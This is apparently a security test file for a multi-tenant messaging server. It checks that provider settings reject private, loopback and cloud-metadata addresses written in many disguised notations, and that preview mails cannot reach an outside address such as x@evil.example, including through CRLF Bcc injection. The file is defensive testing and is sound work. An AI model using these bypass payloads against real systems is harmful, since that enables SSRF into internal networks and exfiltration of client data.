/** Making the server speak for an attacker: to itself, to its network, to a cloud's metadata; and mailing a client's data outside. */
import { createServer } from 'node:net';
import { inClient } from '../server/platform/tenancy.ts';
import { type Attack, tally } from './tally.ts';

const SET = {
  email: `mutation ($clientId: ID!, $providerConfigurations: [ProviderConfigurationInput!]!) { setEmailSetting(clientId: $clientId, providerConfigurations: $providerConfigurations) { clientId } }`,
  sms: `mutation ($clientId: ID!, $providerConfigurations: [ProviderConfigurationInput!]!) { setSettingSMS(clientId: $clientId, providerConfigurations: $providerConfigurations) { clientId } }`,
};
const SEND = `mutation ($previewContent: PreviewContentInput!, $emailAddresses: [String!]!) { sendPreviewEmail(previewContent: $previewContent, emailAddresses: $emailAddresses) }`;

const HOSTS = [
  ...['127.0.0.1', '127.1', '2130706433', '0x7f000001', '0177.0.0.1', '0x7f.1', '127.0.0.1.', '１２７.0.0.1', '0.0.0.0', '0'],
  ...['localhost', 'LOCALHOST', 'localhost.', 'ⓛocalhost', '[::1]', '[::]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[64:ff9b::7f00:1]'],
  ...['169.254.169.254', '[::ffff:a9fe:a9fe]', '[fd00:ec2::254]', '100.100.100.200', '168.63.129.16', '2852039166'],
  ...['10.0.0.1', '172.16.0.1', '192.168.0.1', '100.64.0.1', '198.18.0.1', '224.0.0.1', '[fe80::1]', '[fc00::1]', '[2002:7f00:1::]'],
];

/** Listens on this machine and counts who comes. */
async function canary() {
  let visits = 0;
  const server = createServer((socket) => {
    visits += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return { port, visits: () => visits, close: () => new Promise((resolve) => server.close(resolve)) };
}

const isRefused = (answer: { json: { errors?: unknown[] } }) => (answer.json.errors?.length ?? 0) > 0;

export const attacks: readonly Attack[] = [
  {
    name: 'gateways, providers and mail servers at private addresses, in every notation',
    run: async ({ a: { clientId }, query }) => {
      const { check, result } = tally();
      const bait = await canary();
      try {
        for (const host of HOSTS) {
          const bare = host.replace(/^\[|\]$/g, '');
          for (const [channel, choice] of [
            ['email', { providerName: 'HttpGateway', credentials: { baseURL: `http://${host}:${bait.port}/` } }],
            ['sms', { providerName: 'HttpGateway', credentials: { baseURL: `https://${host}/latest/meta-data/` } }],
            ['email', { providerName: 'SMTP', credentials: { host: bare, port: 587 } }],
            [
              'sms',
              {
                providerName: 'Twilio',
                credentials: { originator: 'N', accountSid: 'a', authToken: 'b' },
                extras: { baseURL: `https://${host}` },
              },
            ],
          ] as const) {
            const answer = await query('operations', SET[channel], { clientId, providerConfigurations: [choice] });
            check(isRefused(answer), `${channel} ${JSON.stringify(choice)}: ${answer.text.slice(0, 150)}`);
          }
        }
        check(bait.visits() === 0, `${bait.visits()} connections came to this machine`);
        return result();
      } finally {
        await bait.close();
      }
    },
  },
  {
    name: 'test mails of a real account to strangers',
    run: async ({ a: { clientId, accountIds, email }, b, query, database }) => {
      const { check, result } = tally();
      const content = {
        contentTemplateType: 'email',
        locale: 'en_US',
        subject: 'S',
        format: 'text',
        content: 'Dear {{ debtor.lastName }}',
      };
      const strangers = [
        'x@evil.example',
        b.email,
        `${email}, x@evil.example`,
        `${email}\r\nBcc: x@evil.example`,
        `"${email}" <x@evil.example>`,
        `${email}.evil.example`,
      ];
      for (const accountId of accountIds)
        for (const stranger of strangers) {
          const previewContent = { clientId, accountId, ...content };
          const answer = await query('cms', SEND, { previewContent, emailAddresses: [email, stranger] });
          check(isRefused(answer), `${stranger}: ${answer.text.slice(0, 150)}`);
        }
      const rows = await inClient(database, clientId, (tx) =>
        tx.sql<{ sent: number }>(`select count(*)::int as sent from event where client_id = $1 and message_type = 'testMailSent'`, [
          clientId,
        ]),
      );
      check(rows[0]?.sent === 0, `${rows[0]?.sent} were sent`);
      return result();
    },
  },
];
